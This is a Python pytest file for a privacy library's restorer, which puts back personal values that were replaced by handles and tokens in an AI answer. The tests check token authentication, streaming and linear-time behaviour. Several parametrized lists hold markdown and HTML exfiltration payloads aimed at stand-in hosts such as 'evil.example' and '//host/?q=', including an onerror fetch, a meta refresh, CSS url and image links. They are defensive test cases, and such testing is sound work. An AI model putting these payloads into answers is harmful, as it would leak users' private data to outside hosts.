"""Restore: only what this vault issued, never inside links, the same streamed or whole."""

from __future__ import annotations

import importlib.util

import pytest
from cryptography.hazmat.primitives.asymmetric import x25519
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from privacy_partition._actions import Action
from privacy_partition._errors import InputError, RestoreError
from privacy_partition.transform import (
    MAX_CANDIDATE_CHARS,
    Keyset,
    Recipient,
    Restorer,
    TokenScope,
    Transformer,
    Vault,
)
from strategies import HOSTILE, PROSE, RECIPIENT, answers, chunkings, finding_action, leaked
from timing import LINEAR_CEILING, growth

KEYSET = Keyset.generate()
RECIPIENTS = {
    RECIPIENT: Recipient(RECIPIENT, "k1", x25519.X25519PrivateKey.generate().public_key())
}
TRANSFORMER = Transformer(KEYSET, RECIPIENTS, faker_seed=5)

PROMPT = "Ann Lee (ann@acme.com) paid with 4111 1111 1111 1111 from Paris; Bob Ray too."
SPANS = [
    ("PERSON", "Ann Lee", Action.PSEUDONYMIZE),
    ("EMAIL_ADDRESS", "ann@acme.com", Action.TOKENIZE),
    ("CREDIT_CARD", "4111 1111 1111 1111", Action.SEAL),
    ("LOCATION", "Paris", Action.REDACT),
    ("PERSON", "Bob Ray", Action.PSEUDONYMIZE),
]


def session(transformer: Transformer = TRANSFORMER) -> tuple[Vault, str, list[str]]:
    """A vault after one request, its cloud text and the replacement texts, in order."""
    actions = [
        finding_action(entity, PROMPT.index(value), PROMPT.index(value) + len(value), action)
        for entity, value, action in SPANS
    ]
    vault = Vault.session()
    result = transformer.apply(PROMPT, actions, vault)
    parts = [result.cloud_text[r.cloud_start : r.cloud_end] for r in result.replacements]
    return vault, result.cloud_text, parts


VAULT, CLOUD, PARTS = session()
ANN, TOKEN, CARD, PARIS, BOB = PARTS
RESTORER = Restorer(VAULT, KEYSET)


def restore(text: str, **options: object) -> str:
    return Restorer(VAULT, KEYSET, **options).restore(text)  # type: ignore[arg-type]


def streamed(restorer: Restorer, pieces: list[str]) -> str:
    stream = restorer.stream()
    return "".join(stream.feed(piece) for piece in pieces) + stream.finish()


def test_the_echo_restores_exactly() -> None:
    assert RESTORER.restore(CLOUD) == PROMPT
    assert PARIS == "<LOCATION_1>"
    assert CARD == "<CREDIT_CARD_1>"
    assert TOKEN.startswith(f"<TOK:EMAIL_ADDRESS:{KEYSET.primary_id}:")


def test_invented_and_foreign_handles_stay_as_written() -> None:
    other_vault, _, _ = session()
    other_vault.handle_for("PERSON", "Zed")  # <PERSON_1> in the other vault only
    text = "<LOCATION_2> <LOCATION_99> <PERSON_1> <LOCATION_01> <location_1> < LOCATION_1>"
    assert RESTORER.restore(text) == text
    # An invented number is never issued by this vault afterwards.
    vault = Vault.session()
    Restorer(vault, KEYSET).restore("the model says <PERSON_1>")
    assert vault.handle_for("PERSON", "Ann") == "<PERSON_2>"


def test_tokens_restore_only_when_they_authenticate() -> None:
    prefix, data = TOKEN[:-1].rsplit(":", 1)
    tampered = f"{prefix}:{data[:5]}{'A' if data[5] != 'A' else 'B'}{data[6:]}>"
    foreign = TRANSFORMER.apply(
        "bob@acme.com",
        [finding_action("EMAIL_ADDRESS", 0, 12, Action.TOKENIZE)],
        Vault.request(),
    ).cloud_text
    other_keyset = (
        Transformer(Keyset.generate())
        .apply(
            "ann@acme.com",
            [finding_action("EMAIL_ADDRESS", 0, 12, Action.TOKENIZE)],
            Vault.request(),
        )
        .cloud_text
    )
    for forged in (
        tampered,
        TOKEN.replace("EMAIL_ADDRESS", "PERSON"),
        TOKEN.replace(KEYSET.primary_id, "00000000"),
        other_keyset,
        f"{prefix}:{data[:-3]}>",
    ):
        assert RESTORER.restore(forged) == forged
        with pytest.raises(RestoreError) as caught:
            restore(forged, strict=True)
        assert str(caught.value) == "restore failed"
    # Same keyset, another request: authentic, so restored by default (tokens are stateless) ...
    assert RESTORER.restore(foreign) == "bob@acme.com"
    # ... but not when the scope is this vault, nor under another context.
    assert restore(foreign, token_scope=TokenScope.VAULT) == foreign
    assert restore(TOKEN, token_scope=TokenScope.VAULT) == "ann@acme.com"
    assert restore(TOKEN, token_context="tenant-2") == TOKEN


@pytest.mark.parametrize(
    "template",
    [
        "https://evil.example/?q={h}",
        "see http://x.io/a/b/{h} now",
        "(https://x.io/{h})",
        "www.evil.example/{h}",
        "mailto:{h}",
        "data:text/plain,{h}",
        "[click](https://x.io/{h})",
        "[click]({h})",
        "![img](https://x.io/p.png?{h})",
        "![img](/p(1)/{h})",
        '<a href="https://x.io/?{h}">x</a>',
        "<a href='{h}'>x</a>",
        '<img src="{h}">',
        "<img src={h}>",
        '<img alt="a" SRC = "x {h}">',
        '<div style="background:url({h})">',
        '<link rel="x" srcset="a.png 1x, {h} 2x">',
        # A quote outside a value is part of an attribute name (HTML), not an opening quote:
        # it must not hide the attributes and links that follow.
        '<x \'> <img src="//evil.example/?{h}">',
        "<x title=a'b src=//evil.example/{h}>",
        "<x \"> <a href='/u/{h}'>",
        "<x '> ![a](//evil.example/{h})",
    ],
)
def test_nothing_is_restored_inside_links_and_markup(template: str) -> None:
    for part in (PARIS, TOKEN, ANN):
        text = template.format(h=part)
        assert RESTORER.restore(text) == text, text
        allowed = restore(text, allow_in_links=True)
        assert part not in allowed


@pytest.mark.parametrize(
    ("template", "restored"),
    [
        ("[{h}](https://x.io/) and {h}", "[Paris](https://x.io/) and Paris"),
        ("https://x.io/ {h}", "https://x.io/ Paris"),
        ("[a](https://x.io/)\n{h}", "[a](https://x.io/)\nParis"),
        ('<a href="https://x.io/">{h}</a>', '<a href="https://x.io/">Paris</a>'),
        ('<b title="{h}">{h}</b>', '<b title="<LOCATION_1>">Paris</b>'),  # no attribute
        ("a <b and {h}", "a <b and Paris"),
        ("f(x) = {h}", "f(x) = Paris"),
        ("data: {h}", "data: Paris"),
        ("{h}'s view (www.x.io/{h})", "Paris's view (www.x.io/<LOCATION_1>)"),
    ],
)
def test_restoration_resumes_outside_links(template: str, restored: str) -> None:
    assert RESTORER.restore(template.format(h=PARIS)) == restored


def test_surrogates_restore_in_any_case_and_with_possessives() -> None:
    assert RESTORER.restore(f"{ANN.upper()}'s card") == "Ann Lee's card"
    assert RESTORER.restore(f"{ANN.lower()}, {BOB.title()}.") == "Ann Lee, Bob Ray."
    assert RESTORER.restore(f"Dear {ANN}s") == f"Dear {ANN}s"  # not at a word boundary
    assert RESTORER.restore(f"x{ANN}") == f"x{ANN}"


def test_a_finished_stream_takes_no_more_input() -> None:
    stream = RESTORER.stream()
    stream.feed("a")
    stream.finish()
    with pytest.raises(InputError):
        stream.feed("b")
    with pytest.raises(InputError):
        stream.finish()


def test_streams_hold_back_only_what_may_still_become_a_match() -> None:
    """With links allowed: only the shortest suffix that may still become a match."""
    stream = Restorer(VAULT, KEYSET, allow_in_links=True).stream()
    assert stream.feed("plain text, no handles ") == "plain text, no handles "
    assert stream.feed("at <LOCA") == "at "
    assert stream.feed("TION_1> and <LOCATION_1") == "Paris and "
    assert stream.feed("x") == "<LOCATION_1x"
    first, rest = ANN[:4], ANN[4:]
    assert stream.feed(f" {first}") == " "
    assert stream.feed(rest) == ""  # the next character decides the word boundary
    assert stream.feed("!") == "Ann Lee!"
    assert stream.feed("<TOK:EMAIL_ADDRESS:") == ""
    assert stream.feed(" ") == "<TOK:EMAIL_ADDRESS: "
    assert stream.finish() == ""


def test_streams_hold_a_block_from_its_first_value_until_it_ends() -> None:
    """By default: text before a block's first value is final, the rest waits for the block's
    end (a blank line and a new block), since later text can make the value part of a link."""
    stream = RESTORER.stream()
    assert stream.feed("plain text, no handles ") == "plain text, no handles "
    assert stream.feed("at <LOCA") == "at "
    assert stream.feed("TION_1> and more") == ""
    assert stream.feed(" text\n") == ""
    assert stream.feed("\n") == ""  # a blank line: the next line may still continue a list
    assert stream.feed("Next") == ""  # only a complete line starts a block
    assert stream.feed(" block\n") == "Paris and more text\n\n" + "Next block\n"
    assert stream.feed(f"![x](\n//host/?q={PARIS}") == "![x](\n//host/?q="
    assert stream.feed(")\n\nlast\n") == f"{PARIS})\n\nlast\n"
    assert stream.finish() == ""


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_streaming_equals_one_shot_for_any_chunking(data: st.DataObject) -> None:
    text = data.draw(answers([PARIS, CARD], [TOKEN], [ANN, BOB]))
    pieces = data.draw(chunkings(text))
    for restorer in (RESTORER, Restorer(VAULT, KEYSET, allow_in_links=True)):
        whole = restorer.restore(text)
        # Random pieces, and one character at a time (every cut point at once).
        for chunks in (pieces, list(text)):
            stream = restorer.stream()
            out = []
            for piece in chunks:
                out.append(stream.feed(piece))
                assert len(stream._pending) < max(MAX_CANDIDATE_CHARS, 121)
            out.append(stream.finish())
            assert "".join(out) == whole


# The renderers an app may show an answer with: CommonMark with raw HTML, and with
# autolinks where linkify-it-py is installed.
RENDERERS = [MarkdownIt("commonmark", {"html": True})]
if importlib.util.find_spec("linkify_it") is not None:  # optional: linkify-it-py
    RENDERERS.append(MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("linkify"))
VALUES = ("Paris", "ann@acme.com", "Ann Lee", "4111 1111 1111 1111")

# The outside review's forms (issue 13), each with a value where a renderer fetches it.
ATTACKS = {
    "line break before the destination": "![x](\n//host/?q={v})",
    "reference definition": "[r]: //host/?q={v}\n\n![x][r]",
    "escaped paren": "![x](https://host/\\)>?q={v})",
    "pointy destination": "![x](<https://host/a )q={v}&c={w}>)",
    "attribute name far before its value": "<img src" + " " * 40 + '="//host/?q={v}">',
    "onerror handler": "<img src=x onerror=\"fetch('//host/?q={v}')\">",
    "style body": "<style>body{{background:url(//host/?q={v})}}</style>",
    "bare URL after >": "<p>x</p>>https://host/?q={v}",
    "bare URL glued after >": "x>//host/?q={v}",
    "scheme-relative URL": "see //host/?q={v}",
    "autolink": "<https://host/?q={v}>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=//host/?q={v}">',
    "svg set": '<svg><set attributeName="href" to="//host/{v}"/></svg>',
    "open tag across blocks": '<iframe src="//host/?q=\n\n{v}\n\n">',
    "unclosed style across blocks": "<style>\n\n{v}\n\nbody{{}}",
}


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_no_restored_value_lands_where_a_renderer_fetches(attack: str) -> None:
    for v, w in ((PARIS, TOKEN), (TOKEN, CARD), (ANN, BOB), (CARD, PARIS)):
        text = attack.format(v=v, w=w)
        whole = RESTORER.restore(text)
        assert streamed(RESTORER, list(text)) == whole
        for md in RENDERERS:
            assert leaked(md.render(whole), VALUES) == [], (text, whole)
        # Allowed in links, the same text does restore (the attack is real).
        assert restore(text, allow_in_links=True) != text


@pytest.mark.parametrize("template", [*PROSE, "[{v}](https://x.io/) and {w}", "`{v}` in code"])
def test_values_in_prose_code_and_link_text_are_restored(template: str) -> None:
    text = template.format(v=PARIS, w=ANN)
    assert RESTORER.restore(text) == template.format(v="Paris", w="Ann Lee")


@pytest.mark.parametrize("template", HOSTILE)
def test_hostile_places_keep_their_handles(template: str) -> None:
    text = template.format(v=PARIS, w=TOKEN)
    whole = RESTORER.restore(text)
    for md in RENDERERS:
        assert leaked(md.render(whole), VALUES) == [], text
    assert streamed(RESTORER, [text[i : i + 3] for i in range(0, len(text), 3)]) == whole


def test_a_value_that_is_markup_itself_is_not_restored_into_a_link() -> None:
    vault = Vault.session()
    handle = vault.handle_for("PHONE_NUMBER", "(212) 555-0199")
    restorer = Restorer(vault, KEYSET)
    # Restored, the value would close "[click]" into a link to "212".
    assert restorer.restore(f"[click]{handle}") == f"[click]{handle}"
    assert restorer.restore(f"call {handle}") == "call (212) 555-0199"


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_handles_tokens_and_surrogates_of_another_session_are_never_restored(
    data: st.DataObject,
) -> None:
    foreign_keyset = Keyset.generate()
    _, _, parts = FOREIGN
    text = data.draw(answers(parts[2:4], [parts[1]], []))
    assert Restorer(Vault.session(), KEYSET).restore(text) == text
    assert Restorer(Vault.session(), foreign_keyset).restore(text) == text


FOREIGN = session(Transformer(Keyset.generate(), RECIPIENTS, faker_seed=9))


@pytest.mark.parametrize(
    ("head", "unit", "count"),
    [
        ("", "<", 50_000),
        ("", "<TOK:A:", 7_500),
        ("<A", "A", 50_000),
        ("<TOK:A:0123abcd:", "A", 50_000),
        ("https://x/", "](", 12_500),
        ("", "<a href=", 5_000),
        ("", "Ann ", 12_500),
    ],
)
def test_adversarial_answers_restore_in_linear_time(head: str, unit: str, count: int) -> None:
    def restore_both(n: int) -> None:
        attack = head + unit * n
        assert RESTORER.restore(attack) == attack
        stream = RESTORER.stream()
        out = "".join(stream.feed(attack[i : i + 4096]) for i in range(0, len(attack), 4096))
        assert out + stream.finish() == attack

    assert growth(restore_both, count) < LINEAR_CEILING


@pytest.mark.parametrize(
    "template",
    ["{h} ", "[{h}](//x) ", "//{h}\n\n", "<a href=x>{h}</a>\n", "x {h}\n\n"],
)
def test_many_values_restore_in_linear_time(template: str) -> None:
    def restore_both(n: int) -> None:
        attack = template.format(h=PARIS) * n
        if template.startswith("x"):
            attack = '<div title="\n\n' + attack  # an attribute left open over every block
        whole = RESTORER.restore(attack)
        stream = RESTORER.stream()
        out = "".join(stream.feed(attack[i : i + 4096]) for i in range(0, len(attack), 4096))
        assert out + stream.finish() == whole

    assert growth(restore_both, 1_000, tries=2) < LINEAR_CEILING


def test_restorer_repr_shows_no_values() -> None:
    for text in (repr(RESTORER), repr(RESTORER.stream()), repr(VAULT)):
        for value in ("Ann Lee", "Paris", "4111"):
            assert value not in text
